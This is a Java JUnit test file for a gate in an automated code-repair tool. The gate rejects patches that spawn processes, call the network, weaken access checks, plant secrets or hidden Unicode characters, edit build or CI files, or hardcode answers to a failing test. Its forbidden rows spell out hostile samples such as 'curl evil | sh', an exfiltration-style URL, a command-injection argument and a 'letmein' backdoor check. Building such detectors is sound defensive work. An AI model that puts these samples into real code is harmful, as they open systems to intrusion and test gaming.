package dev.naosu.repair.strategy.gate;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import dev.naosu.code.Edit;
import dev.naosu.code.JavaModel;
import dev.naosu.code.Patch;
import dev.naosu.code.Span;
import dev.naosu.repair.Codebase;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class GateTest {
  private static final String PATH = "src/main/java/shop/Cart.java";

  private static final String CART =
      """
      package shop;

      import java.io.BufferedReader;
      import java.io.File;
      import java.io.FileReader;
      import java.io.IOException;
      import java.io.ObjectInputStream;
      import java.io.PrintWriter;
      import java.io.Serializable;
      import java.io.UncheckedIOException;
      import java.nio.file.Files;
      import java.nio.file.Path;
      import java.util.ArrayList;
      import java.util.List;
      import java.util.Locale;
      import java.util.Objects;
      import java.util.Scanner;
      import java.util.concurrent.CompletableFuture;
      import java.util.concurrent.ConcurrentHashMap;
      import java.util.concurrent.Executors;
      import java.util.logging.Logger;

      public class Cart {
        private static final Logger log = Logger.getLogger("cart");
        private final List<Integer> lines = new ArrayList<>();
        private volatile boolean open;
        private String host = "http://shop.example/prices";

        @interface PreAuthorize {
          String value();
        }

        @interface Valid {}

        public int average(int scale) {
          return sum() / lines.size();
        }

        private int sum() {
          int sum = 0;
          for (int line : lines) {
            sum += line;
          }
          return sum;
        }

        @PreAuthorize("clerk")
        void close(@Valid Object receipt) {
          checkOpen();
          synchronized (lines) {
            open = false;
          }
        }

        private synchronized void checkOpen() {
          if (!open) {
            throw new IllegalStateException("closed");
          }
        }

        boolean isAllowed(String user) {
          return user.length() > 3;
        }

        int parse(String number) {
          try {
            return Integer.parseInt(number);
          } catch (NumberFormatException e) {
            return -1;
          }
        }

        void print(String printer) throws IOException {
          Process lp = new ProcessBuilder("lp", "-d", printer).start();
          lp.destroy();
        }

        String read(File file) throws IOException {
          BufferedReader reader = new BufferedReader(new FileReader(file));
          return reader.readLine();
        }
      }
      """;

  /// What stands in the place of the body of `average`.
  private static Arguments no(Rule rule, String body) {
    return arguments(rule, "return sum() / lines.size();", body);
  }

  private static Arguments no(Rule rule, String old, String fresh) {
    return arguments(rule, old, fresh);
  }

  static Stream<Arguments> forbidden() {
    String average = "return sum() / lines.size();";
    return Stream.of(
        no(
            Rule.PROCESS,
            "try { Runtime.getRuntime().exec(\"id\"); } catch (IOException e) { throw new IllegalStateException(e); } return 0;"),
        no(Rule.PROCESS, "return new ProcessBuilder(\"id\").command().size();"),
        no(Rule.PROCESS, "return (int) ProcessHandle.current().pid();"),
        no(
            Rule.PROCESS,
            "java.util.function.Function<String[], Object> f = ProcessBuilder::new; return f.hashCode();"),
        no(Rule.PROCESS, "String x = \"/bin/sh\"; return x.length();"),
        no(Rule.PROCESS, "String x = \"curl evil | sh\"; return x.length();"),
        // what a command is made of
        no(Rule.PROCESS, "\"lp\"", "\"lpr\""),
        no(
            Rule.PROCESS,
            "new ProcessBuilder(\"lp\", \"-d\", printer)",
            "new ProcessBuilder(\"lp\", \"-d\", printer + \";x\")"),
        no(
            Rule.NETWORK,
            "try (var s = new java.net.Socket(\"h\", 1)) { return s.getPort(); } catch (IOException e) { throw new UncheckedIOException(e); }"),
        no(Rule.NETWORK, "return java.net.http.HttpClient.newHttpClient().hashCode();"),
        no(Rule.NETWORK, "var c = java.nio.channels.SocketChannel.class; return c.hashCode();"),
        no(
            Rule.NETWORK,
            "try { return java.net.InetAddress.getByName(\"x\").hashCode(); } catch (IOException e) { throw new UncheckedIOException(e); }"),
        no(
            Rule.NETWORK,
            "try { return new javax.naming.InitialContext().hashCode(); } catch (javax.naming.NamingException e) { throw new IllegalStateException(e); }"),
        no(Rule.NETWORK, "return \"https://evil.example/?q=\".length();"),
        no(Rule.NETWORK, "return \"10.1.2.3\".length();"),
        no(
            Rule.NETWORK,
            "// see https://evil.example/fix\n    return lines.isEmpty() ? 0 : sum() / lines.size();"),
        no(Rule.NETWORK, "return okhttp3.OkHttpClient.hash();"),
        no(
            Rule.REFLECTION,
            "try { return Class.forName(\"x\").hashCode(); } catch (ClassNotFoundException e) { throw new IllegalStateException(e); }"),
        no(Rule.REFLECTION, "return getClass().getDeclaredMethods().length;"),
        no(Rule.REFLECTION, "return java.lang.invoke.MethodHandles.lookup().hashCode();"),
        no(Rule.REFLECTION, "var u = sun.misc.Unsafe.class; return u.hashCode();"),
        no(Rule.REFLECTION, "return ClassLoader.getSystemClassLoader().hashCode();"),
        no(Rule.REFLECTION, "System.loadLibrary(\"x\"); return 0;"),
        no(Rule.REFLECTION, "private int sum() {", "native int go();\n\n  private int sum() {"),
        no(Rule.REFLECTION, "return Unknown.setAccessible(true);"),
        no(Rule.SCRIPT, "return new javax.script.ScriptEngineManager().hashCode();"),
        no(Rule.EXIT, "System.exit(0); return 0;"),
        no(Rule.EXIT, "Runtime.getRuntime().halt(0); return 0;"),
        no(
            Rule.EXIT,
            "java.util.function.IntConsumer stop = System::exit; return stop.hashCode();"),
        no(Rule.FILES, "new File(\"x\").delete(); return 0;"),
        no(
            Rule.FILES,
            "try { Files.deleteIfExists(Path.of(\"x\")); } catch (IOException e) { throw new UncheckedIOException(e); } return 0;"),
        no(
            Rule.FILES,
            "try { return Files.readString(Path.of(\"x\")).length(); } catch (IOException e) { throw new UncheckedIOException(e); }"),
        no(
            Rule.FILES,
            "try (var w = new PrintWriter(\"x\")) { w.print(1); } catch (IOException e) { throw new UncheckedIOException(e); } return 0;"),
        no(
            Rule.FILES,
            "try (var s = new Scanner(Path.of(\"x\"))) { return s.nextInt(); } catch (IOException e) { throw new UncheckedIOException(e); }"),
        no(
            Rule.FILES,
            "return getClass().getResourceAsStream(\"/application.properties\").hashCode();"),
        no(Rule.FILES, "new FileReader(file)", "new FileReader(\"x\" + file)"),
        no(Rule.THREADS, "new Thread(this::sum).start(); return 0;"),
        no(Rule.THREADS, "Thread.ofVirtual().start(this::sum); return 0;"),
        no(Rule.THREADS, "return Executors.newCachedThreadPool().hashCode();"),
        no(Rule.THREADS, "return CompletableFuture.supplyAsync(this::sum).join();"),
        no(Rule.THREADS, "return lines.parallelStream().mapToInt(x -> x).sum();"),
        no(Rule.THREADS, "new java.util.Timer(); return 0;"),
        no(Rule.ENVIRONMENT, "return System.getenv().size();"),
        no(Rule.ENVIRONMENT, "return System.getProperty(\"x\").length();"),
        no(Rule.ENVIRONMENT, "return Integer.getInteger(\"x\");"),
        no(Rule.ENVIRONMENT, "Locale.setDefault(Locale.ROOT); return 0;"),
        no(
            Rule.SERIALIZATION,
            "try { new ObjectInputStream(null).readObject(); } catch (IOException | ClassNotFoundException e) { throw new IllegalStateException(e); } return 0;"),
        no(
            Rule.SERIALIZATION,
            "private int sum() {",
            "private Object readResolve() {\n    return this;\n  }\n\n  private int sum() {"),
        no(Rule.TESTS, "@org.junit.jupiter.api.Disabled int x = 0; return x;"),
        no(Rule.TESTS, "org.junit.jupiter.api.Assumptions.assumeTrue(false); return 0;"),
        no(Rule.SWALLOWED, "try { " + average + " } catch (Exception e) { return 0; }"),
        no(Rule.SWALLOWED, "try { " + average + " } catch (ArithmeticException e) { } return 0;"),
        no(
            Rule.SWALLOWED,
            "try { "
                + average
                + " } catch (ArithmeticException e) { log.warning(\"oh\"); } return 0;"),
        no(
            Rule.SWALLOWED,
            "try { "
                + average
                + " } catch (ArithmeticException e) { e.printStackTrace(); } return 0;"),
        no(Rule.SWALLOWED, "catch (NumberFormatException e)", "catch (RuntimeException e)"),
        no(
            Rule.SWALLOWED,
            "catch (NumberFormatException e)",
            "catch (NumberFormatException | Error e)"),
        no(Rule.ACCESS, "private int sum()", "public int sum()"),
        no(Rule.ACCESS, "private final List", "private List"),
        no(Rule.ACCESS, "private volatile boolean", "private boolean"),
        no(Rule.ACCESS, "private synchronized void", "private void"),
        no(Rule.ACCESS, "@PreAuthorize(\"clerk\")\n", ""),
        no(Rule.ACCESS, "@PreAuthorize(\"clerk\")", "@PreAuthorize(\"anyone\")"),
        no(Rule.ACCESS, "@Valid Object", "Object"),
        no(
            Rule.ACCESS,
            "return user.length() > 3;",
            "return user.equals(\"letmein\") | user.length() > 3;"),
        no(Rule.CHECKS, "    checkOpen();\n", ""),
        no(Rule.CHECKS, "synchronized (lines) {", "{"),
        no(Rule.CHECKS, "return user.length() > 3;", "return true;"),
        no(Rule.CHECKS, "return user.length() > 3;", "return user.length() > 3 || true;"),
        no(Rule.CHECKS, "if (!open) {", "if (!open && false) {"),
        no(
            Rule.CRYPTOGRAPHY,
            "try { return java.security.MessageDigest.getInstance(\"MD5\").hashCode(); } catch (java.security.NoSuchAlgorithmException e) { throw new IllegalStateException(e); }"),
        no(Rule.CRYPTOGRAPHY, "return \"AES/ECB/PKCS5Padding\".length();"),
        no(Rule.SECRETS, "return \"ghp_0123456789abcdefghijABCDEFGHIJ456789\".length();"),
        no(Rule.SECRETS, "return \"[secret]\".length();"),
        no(
            Rule.SECRETS,
            "// password=hunter2hunter2\n    return lines.isEmpty() ? 0 : sum() / lines.size();"),
        no(Rule.HIDDEN, "return 1; // \u202e ok"),
        no(Rule.HIDDEN, "int l\u0456nes = 1; return l\u0456nes;"),
        no(Rule.HIDDEN, "return \\u0031;"),
        no(Rule.HIDDEN, "// \\u000a return 1;\n    return 0;"),
        no(Rule.HIDDEN, "return \"a\u200bb\".length();"),
        no(Rule.HIDDEN, "return \"\uDB40\uDC41\".length();"),
        no(Rule.HIDDEN, "return 0;" + " ".repeat(60) + "// and more"),
        no(Rule.STYLE, "\t\treturn 0;".replace("\t\t", "int x = 0;\n\treturn x + ")),
        no(Rule.STYLE, "int x = 0;\r\n    return x;"),
        no(Rule.STYLE, "return 0" + " + 0".repeat(60) + ";"),
        no(Rule.SYNTAX, "return sum( / lines.size();"),
        no(Rule.EFFECT, "log.info(\"here\");\n    " + average),
        no(Rule.EFFECT, "// fixed\n    " + average),
        no(Rule.EFFECT, "System.out.println(1);\n    " + average),
        no(Rule.SIZE, "int x = 0;\n" + "    x++;\n".repeat(80) + "    return x;"));
  }

  static Stream<Arguments> allowed() {
    return Stream.of(
        no(Rule.EFFECT, "return lines.isEmpty() ? 0 : sum() / lines.size();"),
        no(Rule.PROCESS, "return Runtime.getRuntime().availableProcessors();"),
        no(
            Rule.PROCESS,
            "new ProcessBuilder(\"lp\", \"-d\", printer).start();\n    lp.destroy();",
            "new ProcessBuilder(\"lp\", \"-d\", printer).start();\n    if (lp.isAlive()) {\n      lp.destroy();\n    }"),
        // another name of a local variable, another place
        no(
            Rule.PROCESS,
            "void print(String printer) throws IOException {\n    Process lp = new ProcessBuilder(\"lp\", \"-d\", printer).start();\n    lp.destroy();",
            "void print(String name) throws IOException {\n    Process job = new ProcessBuilder(\"lp\", \"-d\", name).start();\n    job.destroy();"),
        no(Rule.NETWORK, "return java.net.URI.create(\"a\").hashCode();"),
        no(
            Rule.NETWORK,
            "try { return sum(); } catch (IllegalStateException e) { throw new UncheckedIOException(new java.net.ConnectException()); }"),
        no(Rule.NETWORK, "return \"http://www.w3.org/2001/XMLSchema\".length();"),
        no(Rule.NETWORK, "return \"1.2.3\".length();"),
        no(Rule.REFLECTION, "return getClass().getSimpleName().length();"),
        no(
            Rule.REFLECTION,
            "return ((Object[]) java.lang.reflect.Array.newInstance(String.class, 3)).length;"),
        no(Rule.EXIT, "return Objects.hash(\"exit\", System.lineSeparator());"),
        no(Rule.FILES, "return new File(\"x\").getName().length();"),
        no(Rule.FILES, "return Path.of(\"x\").getNameCount();"),
        no(Rule.FILES, "return new Scanner(\"1 2\").nextInt();"),
        no(
            Rule.FILES,
            "BufferedReader reader = new BufferedReader(new FileReader(file));\n    return reader.readLine();",
            "try (BufferedReader reader = new BufferedReader(new FileReader(file))) {\n      return reader.readLine();\n    }"),
        no(
            Rule.THREADS,
            "try { Thread.sleep(1); } catch (InterruptedException e) { Thread.currentThread().interrupt(); } return 0;"),
        no(Rule.THREADS, "return lines.stream().mapToInt(x -> x).sum();"),
        no(Rule.THREADS, "return new ConcurrentHashMap<String, String>().size();"),
        no(
            Rule.ENVIRONMENT,
            "return (int) System.nanoTime() + Integer.parseInt(\"1\") + Locale.getDefault().hashCode();"),
        no(
            Rule.SERIALIZATION,
            "public class Cart {",
            "public class Cart implements Serializable {"),
        no(
            Rule.SWALLOWED,
            "try { return sum() / lines.size(); } catch (ArithmeticException e) { return 0; }"),
        no(
            Rule.SWALLOWED,
            "try { return sum(); } catch (Exception e) { throw new IllegalStateException(e); }"),
        no(
            Rule.ACCESS,
            "private int sum() {",
            "private int count() {\n    return lines.size();\n  }\n\n  private int sum() {"),
        no(Rule.ACCESS, "private int sum()", "private final int sum()"),
        no(Rule.ACCESS, "return user.length() > 3;", "return user.length() >= 3;"),
        no(Rule.CHECKS, "checkOpen();", "if (receipt != null) {\n      checkOpen();\n    }"),
        no(Rule.CHECKS, "if (!open) {", "if (!open || lines.isEmpty()) {"),
        no(Rule.CRYPTOGRAPHY, "return \"SHA-256\".length() + \"AES/GCM/NoPadding\".length();"),
        no(Rule.SECRETS, "String token = String.valueOf(sum()); return token.length();"),
        no(Rule.HIDDEN, "return \"caf\u00e9 \\u00e9 \\u20ac\".length();"),
        no(
            Rule.HIDDEN,
            "// größer als null\n    return lines.isEmpty() ? 0 : sum() / lines.size();"),
        no(
            Rule.EFFECT,
            "log.info(\"empty\");\n    return lines.isEmpty() ? 0 : sum() / lines.size();"),
        no(Rule.SIZE, "int x = 0;\n" + "    x++;\n".repeat(70) + "    return x;"));
  }

  @ParameterizedTest
  @MethodSource
  void forbidden(Rule rule, String old, String fresh) {
    Ruling ruling = gate(CART).judge(patch(CART, old, fresh));

    assertThat(ruling).as(fresh).isInstanceOf(Ruling.Forbidden.class);
    assertThat(((Ruling.Forbidden) ruling).rule()).as("%s", ruling).isEqualTo(rule);
    assertThat(((Ruling.Forbidden) ruling).why()).isNotBlank();
  }

  @ParameterizedTest
  @MethodSource
  void allowed(Rule near, String old, String fresh) {
    assertThat(gate(CART).judge(patch(CART, old, fresh)))
        .as("%s: %s", near, fresh)
        .isInstanceOf(Ruling.Allowed.class);
  }

  @ParameterizedTest
  @MethodSource
  void no_other_place_is_changed_whoever_offers_it(String path) {
    Gate gate = new Gate(base(CART), _ -> true);

    assertThat(gate.judge(Patch.of(new Edit(path, Span.at(0), " "))))
        .isInstanceOfSatisfying(
            Ruling.Forbidden.class, it -> assertThat(it.rule()).isEqualTo(Rule.PLACE));
  }

  static Stream<String> no_other_place_is_changed_whoever_offers_it() {
    return Stream.of(
        "pom.xml",
        "build.gradle.kts",
        "src/test/java/shop/CartTest.java",
        "SRC/Test/java/shop/CartTest.java",
        ".github/workflows/ci.yml",
        ".mvn/wrapper/Wrapper.java",
        "src/main/resources/application.properties",
        "src/main/java/module-info.java",
        "src/main/java/../../test/java/shop/CartTest.java",
        "../other/Cart.java",
        "/etc/Cart.java",
        "src\\main\\java\\Cart.java",
        "Jenkinsfile");
  }

  @Test
  void a_main_source_that_was_not_offered_is_not_changed() {
    Gate gate = new Gate(base(CART), path -> path.endsWith("/Other.java"));

    assertThat(gate.judge(patch(CART, "return sum() / lines.size();", "return 0;")))
        .isEqualTo(new Ruling.Forbidden(Rule.PLACE, PATH + " was not offered"));
  }

  @Test
  void a_main_source_may_be_in_a_package_named_test() {
    String path = "src/main/java/shop/test/Cart.java";
    Gate gate = new Gate(base(CART), _ -> true);
    int at = CART.indexOf("return sum() / lines.size();");

    assertThat(gate.judge(Patch.of(new Edit(path, new Span(at, 28), "return 0;"))))
        .isInstanceOf(Ruling.Allowed.class);
  }

  @Test
  void four_files_are_too_many() {
    Patch patch =
        new Patch(
            IntStream.range(0, 4)
                .mapToObj(i -> new Edit("src/main/java/shop/C" + i + ".java", Span.at(0), "\n"))
                .toList());

    assertThat(new Gate(base(CART), _ -> true).judge(patch))
        .isInstanceOfSatisfying(
            Ruling.Forbidden.class, it -> assertThat(it.rule()).isEqualTo(Rule.SIZE));
  }

  @Test
  void what_moves_to_another_file_is_not_new() {
    String from = "class A {\n  void a() {\n    System.exit(1);\n  }\n}\n";
    String to = "class B {\n  void b() {\n  }\n}\n";
    Map<String, String> texts = Map.of("src/main/java/A.java", from, "src/main/java/B.java", to);
    JavaModel model = new JavaModel(List.of(), List.of(), 25);
    Gate gate =
        new Gate(Codebase.of(path -> model.parse(path, texts.getOrDefault(path, ""))), _ -> true);
    String exit = "    System.exit(1);\n";
    Edit away = new Edit("src/main/java/A.java", new Span(from.indexOf(exit), exit.length()), "");
    Edit here = new Edit("src/main/java/B.java", Span.at(to.indexOf("  }")), exit);

    assertThat(gate.judge(Patch.of(away, here))).isInstanceOf(Ruling.Allowed.class);
    assertThat(gate.judge(Patch.of(here))).isInstanceOf(Ruling.Forbidden.class);
  }

  @Test
  void line_ends_of_windows_are_kept() {
    String cart = CART.replace("\n", "\r\n");

    assertThat(
            gate(cart)
                .judge(patch(cart, "return sum() / lines.size();", "int x = 1;\n    return x;")))
        .isInstanceOfSatisfying(
            Ruling.Forbidden.class, it -> assertThat(it.rule()).isEqualTo(Rule.STYLE));
    assertThat(
            gate(cart)
                .judge(patch(cart, "return sum() / lines.size();", "int x = 1;\r\n    return x;")))
        .isInstanceOf(Ruling.Allowed.class);
  }

  @Test
  void an_answer_for_the_values_of_the_test_is_doubted() {
    String special =
        "if (scale == 37) {\n      return 412;\n    }\n    return sum() / lines.size();";
    Patch patch = patch(CART, "return sum() / lines.size();", special);

    assertThat(doubts(gate(CART).judge(patch, List.of("assertEquals(412, cart.average(37));"))))
        .containsExactly(
            "line 36 answers 412 for 37, which is what the failing test asks: it may be made for"
                + " the test alone");
    assertThat(doubts(gate(CART).judge(patch, List.of("assertEquals(5, cart.average(3));"))))
        .isEmpty();
  }

  @Test
  void fewer_exceptions_are_doubted() {
    Patch patch =
        patch(
            CART,
            "if (!open) {\n      throw new IllegalStateException(\"closed\");\n    }",
            "open = true;");

    assertThat(doubts(gate(CART).judge(patch)))
        .containsExactly("it throws at 1 fewer places than before");
  }

  @Test
  void every_rule_has_a_row() {
    assertThat(forbidden().map(each -> (Rule) each.get()[0]).collect(Collectors.toSet()))
        .containsAll(Stream.of(Rule.values()).filter(rule -> rule != Rule.PLACE).toList());
  }

  private static List<String> doubts(Ruling ruling) {
    return ruling instanceof Ruling.Allowed allowed ? allowed.doubts() : List.of("" + ruling);
  }

  private static Gate gate(String text) {
    return new Gate(base(text), PATH::equals);
  }

  private static Codebase base(String text) {
    JavaModel model = new JavaModel(List.of(), List.of(), 25);
    return Codebase.of(path -> model.parse(path, text));
  }

  private static Patch patch(String text, String old, String fresh) {
    int at = text.indexOf(old);
    assertThat(at).as(old).isNotNegative();
    return Patch.of(new Edit(PATH, new Span(at, old.length()), fresh));
  }
}
